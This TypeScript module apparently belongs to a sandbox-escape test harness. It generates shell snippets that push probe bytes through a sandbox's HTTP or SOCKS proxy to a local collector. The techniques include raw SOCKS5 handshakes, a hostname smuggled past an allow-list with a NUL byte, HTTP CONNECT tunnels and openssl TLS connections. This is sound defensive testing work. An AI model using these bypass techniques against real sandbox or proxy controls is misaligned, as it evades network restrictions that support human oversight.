// Pieces of scripts that several attacks share: speaking to the proxy that the sandbox names in its environment. Where there is none, as
// without a sandbox, the same bytes go straight to the collector. Pure.
import { PROXY } from "../plan/resolve/listeners.js";

const FIND_HTTP = `proxy="\${HTTP_PROXY:-$http_proxy}"; at="\${proxy#*://}"; at="\${at%/}"`;
const SOCKS = `127.0.0.1 ${PROXY.socks}`;

/** `request` is inside of double quotes of the shell: \r, \n, \0 and \xNN are written by the prober. */
export function throughProxy(request: string): string {
  return [
    FIND_HTTP,
    `if [ -n "$proxy" ]; then "$PROBER" send tcp "\${at%:*}" "\${at##*:}" "${request}" "$NONCE"`,
    `else "$PROBER" send tcp 127.0.0.1 "$TCP4" "${request} $NONCE"; fi`,
  ].join("\n");
}

/** SOCKS5 without authentication: by address, and by a name that a C library would cut at its zero byte. */
export const throughSocks = [
  FIND_HTTP,
  `port=$(printf '\\\\x%02x\\\\x%02x' $((TCP4 / 256)) $((TCP4 % 256)))`,
  `if [ -n "$proxy" ]; then`,
  `"$PROBER" send tcp ${SOCKS} '\\x05\\x01\\x00' "\\x05\\x01\\x00\\x01\\x7f\\x00\\x00\\x01$port" "$NONCE"`,
  `"$PROBER" send tcp ${SOCKS} '\\x05\\x01\\x00' "\\x05\\x01\\x00\\x03\\x1f127.0.0.1\\x00.allowed.breakout.test$port" "$NONCE"`,
  `else "$PROBER" send tcp 127.0.0.1 "$TCP4" "$NONCE"; fi`,
].join("\n");

export interface Tunnel {
  readonly host: string;
  /** Where the same bytes go without a sandbox: a variable of the stage. */
  readonly bare?: string;
  /** `tcp-bytes`: the last text in pieces of one byte. */
  readonly kind?: "tcp" | "tcp-bytes";
}

/** What a client says on port 443 of a host; each further text after an answer. */
export function throughTunnel({ host, bare = "TCP4", kind = "tcp" }: Tunnel, ...texts: readonly string[]): string {
  const said = texts.map((text) => `"${text}"`).join(" ");
  const ask = `CONNECT ${host}:443 HTTP/1.1\\r\\nHost: ${host}:443\\r\\n\\r\\n`;
  return [
    FIND_HTTP,
    `if [ -n "$proxy" ]; then "$PROBER" send ${kind} "\${at%:*}" "\${at##*:}" "${ask}" ${said}`,
    `else "$PROBER" send ${kind} 127.0.0.1 "$${bare}" ${said}; fi`,
  ].join("\n");
}

export interface SecureClient {
  readonly host: string;
  /** As in Tunnel. */
  readonly bare: string;
  readonly alpn: "h2" | "http/1.1";
  /** For printf(1). */
  readonly bytes: string;
}

/** With a TLS client that most systems have; without one the attack says that it is missing. */
export function overTls({ host, bare, alpn, bytes }: SecureClient): string {
  const client = `timeout 8 openssl s_client -quiet -no_ign_eof -alpn ${alpn} -servername ${host}`;
  return [
    FIND_HTTP,
    "command -v openssl > /dev/null || echo 'missing openssl'",
    // The answer is of no interest, but what was said must have arrived.
    `say() { printf "${bytes}"; sleep 1; }`,
    `if [ -n "$proxy" ]; then say | ${client} -proxy "$at" -connect ${host}:443`,
    `else say | ${client} -connect "127.0.0.1:$${bare}"; fi`,
  ].join("\n");
}
